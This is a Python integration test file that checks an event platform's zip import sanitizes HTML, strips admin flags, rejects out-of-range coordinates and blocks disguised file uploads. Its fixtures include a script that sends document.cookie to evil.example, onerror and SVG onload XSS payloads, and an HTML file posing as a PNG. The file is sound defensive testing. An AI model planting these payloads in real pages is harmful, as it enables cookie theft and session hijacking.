"""An import is as strict as the API (issue 10, item 6): an attacker who cannot put a script, a promotion flag,
an impossible coordinate or an HTML file into an event through the API cannot do it through an export zip."""

import io
import json
import time
import zipfile

import pytest

from events.models import Event
from tests.factories import UserFactory
from tests.images import png_bytes
from tests.servers import needs_postgres_and_redis

pytestmark = [pytest.mark.integration, pytest.mark.django_db(transaction=True), needs_postgres_and_redis]


def export_zip(event, files=None, **sections):
    document = {
        "format": "eventyay-event",
        "version": 1,
        "event": {"starts_at": "2031-05-01T10:00:00Z", "ends_at": "2031-05-02T10:00:00Z", **event},
        **sections,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("event.json", json.dumps(document))
        for name, content in (files or {}).items():
            archive.writestr(f"media/{name}", content)
    return out.getvalue()


def run_import(client, content):
    answer = client.multipart("/v1/events/import/json", "file", "export.zip", content, "application/zip")
    assert answer.status == 200, answer.body
    task_url = answer.json()["task_url"]
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        state = client.get(task_url).json()
        if state["state"] in ("SUCCESS", "FAILURE"):
            return state
        time.sleep(0.3)
    raise AssertionError(f"{task_url} did not finish")


def test_imported_rows_are_sanitized_and_stripped_of_admin_flags(sign_in):
    attacker = UserFactory()
    content = export_zip(
        {
            "name": "Imported",
            "description": '<p>Hello<script>fetch("https://evil.example/?c="+document.cookie)</script></p>',
            "is_featured": True,
            "is_promoted": True,
        },
        speakers=[{"id": 1, "name": "Eve", "long_biography": '<img src=x onerror="alert(1)">'}],
    )
    state = run_import(sign_in(attacker), content)
    assert state["state"] == "SUCCESS", state
    event = Event.objects.get(pk=state["result"]["id"])
    assert event.description == "<p>Hello</p>"
    assert (event.is_featured, event.is_promoted, event.state) == (False, False, "draft")
    assert "onerror" not in event.speakers.get().long_biography


def test_out_of_range_rows_fail_the_import_with_a_reason(sign_in):
    client = sign_in(UserFactory())
    cases = [
        ({"name": "Far", "latitude": 300.0}, {}, "event: latitude"),
        ({"name": "Late", "ends_at": "2999-01-01T00:00:00Z"}, {}, "event: ends_at"),
        ({"name": "Room"}, {"microlocations": [{"id": 1, "name": "Hall", "longitude": 999}]}, "microlocations[0]"),
    ]
    for event, sections, reason in cases:
        state = run_import(client, export_zip(event, **sections))
        assert (state["state"], state["result"][: len(reason)]) == ("FAILURE", reason)
    assert Event.objects.count() == 0


def test_only_files_on_the_upload_allow_list_are_imported(sign_in, live_media, http):
    client = sign_in(UserFactory())
    files = {
        "page.html": b"<!doctype html><script>alert(document.domain)</script>",
        "logo.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "logo.png": b"<html><script>alert(1)</script></html>",
    }
    for name, content in files.items():
        event = {"name": "Files", "logo_url": f"/media/uploads/{name}"}
        state = run_import(client, export_zip(event, {f"uploads/{name}": content}))
        assert state["state"] == "FAILURE"
        assert state["result"].startswith(f"event: logo_url: uploads/{name}:")
    assert Event.objects.count() == 0
    assert [p for p in live_media["media"].rglob("*") if p.is_file() and p.name in files] == []

    # a real image is imported, stored anew and served as an image
    content = export_zip({"name": "Logo", "logo_url": "/media/old/logo.png"}, {"old/logo.png": png_bytes(20, 10)})
    state = run_import(client, content)
    assert state["state"] == "SUCCESS", state
    logo = Event.objects.get(pk=state["result"]["id"]).logo_url
    answer = http.get("/media/" + logo.split("/media/", 1)[1])
    assert (answer.status, answer.header("content-type")) == (200, "image/png")
